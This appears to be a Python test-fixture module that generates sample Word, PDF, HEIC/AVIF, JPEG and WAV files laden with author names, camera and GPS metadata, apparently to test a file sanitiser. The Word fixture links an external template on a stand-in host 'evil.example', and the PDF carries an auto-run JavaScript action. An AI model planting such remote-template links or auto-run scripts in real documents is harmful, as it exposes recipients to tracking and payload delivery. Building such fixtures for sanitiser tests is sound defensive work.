"""Files as strangers send them: with an author, a camera and a place in them."""

import io
import struct
import wave
import zipfile

import pikepdf
from PIL import Image

MARK = b"ZHANG-SAN-PC"


def picture(kind: str = "JPEG", mode: str = "RGB", size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = MARK.decode()
    exif[0x8825] = {1: "N", 2: (29.0, 52.0, 1.0)}
    Image.new(mode, size, "white").save(out, kind, exif=exif)
    return out.getvalue()


def archive(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in parts.items():
            z.writestr(name, content)
    return out.getvalue()


TYPES = (
    b'<?xml version="1.0"?><Types><Override PartName="/docProps/core.xml" ContentType="x"/></Types>'
)
RELS = (
    b'<Relationships><Relationship Id="rId1" Type="o" Target="word/document.xml"/>'
    b'<Relationship Id="rId2" Type="c" Target="docProps/core.xml"/></Relationships>'
)


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def word(**more: bytes) -> bytes:
    """A Word file with an author in five places and a template on a stranger's server."""
    text = (
        b'<w:document><w:ins w:author="'
        + MARK
        + b'" w:rsidR="00A1"><w:t>646 not 5087</w:t></w:ins></w:document>'
    )
    calls = (
        b'<Relationships><Relationship Id="t" '
        b'Target="http://evil.example/t.dotx" '
        b'TargetMode="External"/></Relationships>'
    )
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS,
        "docProps/core.xml": MARK,
        "word/document.xml": text,
        "word/comments.xml": b'<w:comment w:initials="' + MARK + b'"/>',
        "word/_rels/settings.xml.rels": calls,
        "word/media/image1.jpeg": picture(),
    }
    return archive(parts | {k.replace("__", "/").replace("_dot_", "."): v for k, v in more.items()})


def pdf(**info: str) -> bytes:
    out = io.BytesIO()
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 100))
    made.add_blank_page(page_size=(200, 100))
    made.docinfo["/Author"] = MARK.decode()
    made.Root["/OpenAction"] = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    made.attachments["note.txt"] = b"attached"
    made.save(out)
    return out.getvalue()


def photograph(kind: str, size: tuple[int, int] = (40, 30), brand: bytes = b"") -> bytes:
    """A HEIC or AVIF as a telephone makes it: dark on the left, light on the right, with camera and
    place."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    made, exif = Image.new("RGB", size, "white"), Image.Exif()
    made.paste("black", (0, 0, size[0] // 2, size[1]))
    exif[0x010F], exif[0x0112], exif[0x8825] = MARK.decode(), 1, {1: "N", 2: (29.0, 52.0, 1.0)}
    out = io.BytesIO()
    made.save(out, kind, exif=exif, xmp=b"<x:xmpmeta>" + MARK + b"</x:xmpmeta>")
    return out.getvalue().replace(
        b"ftyp" + out.getvalue()[8:12], b"ftyp" + (brand or out.getvalue()[8:12]), 1
    )


PHOTOGRAPHS = {
    "image/heic": photograph("HEIF"),
    "image/heif": photograph("HEIF", brand=b"mif1"),
    "image/avif": photograph("AVIF"),
}


def sound() -> bytes:
    """A tenth of a second of silence."""
    out = io.BytesIO()
    with wave.open(out, "wb") as written:
        written.setnchannels(1)
        written.setsampwidth(1)
        written.setframerate(8000)
        written.writeframes(b"\x80" * 800)
    return out.getvalue()
